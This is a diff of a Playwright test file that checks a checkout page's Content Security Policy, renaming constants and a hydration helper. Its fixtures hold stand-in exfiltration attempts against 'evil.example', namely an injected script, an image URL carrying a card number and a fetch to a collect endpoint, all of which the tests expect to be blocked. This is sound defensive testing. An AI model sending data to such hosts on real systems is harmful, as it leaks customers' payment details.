@@ -1,11 +1,11 @@
 import type { Page } from '@playwright/test'
-import { untilHydrated } from '../fixtures/hydration.ts'
+import { waitForHydration } from '../fixtures/hydration.ts'
 import { expect, test } from '../fixtures/test.ts'
 import { SHOP_PORT } from '../fixtures/port.ts'
 
 /** A page of the checkout document that does not redirect when the basket is empty. */
-const CHECKOUT = '/checkout/nope'
-const SANDBOX = `http://sandbox.localhost:${SHOP_PORT + 1}`
+const CHECKOUT_PATH = '/checkout/nope'
+const SANDBOX_ORIGIN = `http://sandbox.localhost:${SHOP_PORT + 1}`
 
 type AddedElement = { tag: 'script' | 'iframe' | 'img'; src: string }
 
@@ -30,7 +30,7 @@ const blockedElements: (AddedElement & { what: string; rule: string })[] = [
   {
     what: 'a tag manager',
     tag: 'script',
-    src: `${SANDBOX}/gtm.js?id=GTM-DEMO`,
+    src: `${SANDBOX_ORIGIN}/gtm.js?id=GTM-DEMO`,
     rule: 'script-src-elem',
   },
   {
@@ -39,7 +39,7 @@ const blockedElements: (AddedElement & { what: string; rule: string })[] = [
     src: 'https://evil.example/x.js',
     rule: 'script-src-elem',
   },
-  { what: 'a frame of another page', tag: 'iframe', src: `${SANDBOX}/outbox`, rule: 'frame-src' },
+  { what: 'a frame of another page', tag: 'iframe', src: `${SANDBOX_ORIGIN}/outbox`, rule: 'frame-src' },
   { what: 'a picture that leaks', tag: 'img', src: 'https://evil.example/?card=4242', rule: 'img-src' },
 ]
 
@@ -48,22 +48,22 @@ test('checkout loads only its two releases and the payment provider', async ({ p
   const home = await (await page.goto('/'))?.text()
   const [menuEntry = ''] = /\/r\/menu\/[^"]*?\/web\//.exec(home ?? '') ?? []
   for (const { what, rule, ...element } of blockedElements) {
-    await page.goto(CHECKOUT)
-    await untilHydrated(page)
+    await page.goto(CHECKOUT_PATH)
+    await waitForHydration(page)
     await addElement(page, element)
     await expect.poll(() => readOutcomes(page), what).toEqual([rule])
   }
-  await page.goto(CHECKOUT)
+  await page.goto(CHECKOUT_PATH)
   await addElement(page, { tag: 'script', src: `${menuEntry || '/r/menu/x/web/'}entry.js` })
   await expect.poll(() => readOutcomes(page)).toEqual(['script-src-elem'])
-  await addElement(page, { tag: 'script', src: `${SANDBOX}/checkout-web-components/index.js` })
+  await addElement(page, { tag: 'script', src: `${SANDBOX_ORIGIN}/checkout-web-components/index.js` })
   await expect.poll(() => readOutcomes(page)).toEqual(['loaded'])
 })
 
 test('checkout sends nothing to third parties', async ({ page, expectConsole }) => {
   expectConsole(/Content Security Policy|status of 404 .*nope/)
-  await page.goto(CHECKOUT)
-  await untilHydrated(page)
+  await page.goto(CHECKOUT_PATH)
+  await waitForHydration(page)
   const sent = page.evaluate(() => fetch('https://evil.example/collect').then(String, () => 'refused'))
   expect(await sent).toBe('refused')
   const rule = page.evaluate(
@@ -84,8 +84,8 @@ test('checkout does not run scripts of other areas or the tag manager', async ({
   page.on('request', (request) => {
     if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname)
   })
-  await page.goto(CHECKOUT)
-  await untilHydrated(page)
+  await page.goto(CHECKOUT_PATH)
+  await waitForHydration(page)
   await page.waitForLoadState('networkidle')
   expect(scripts.filter((path) => !/^\/r\/(host|checkout)\//.test(path))).toEqual([])
   expect(scripts.length).toBeGreaterThan(1)
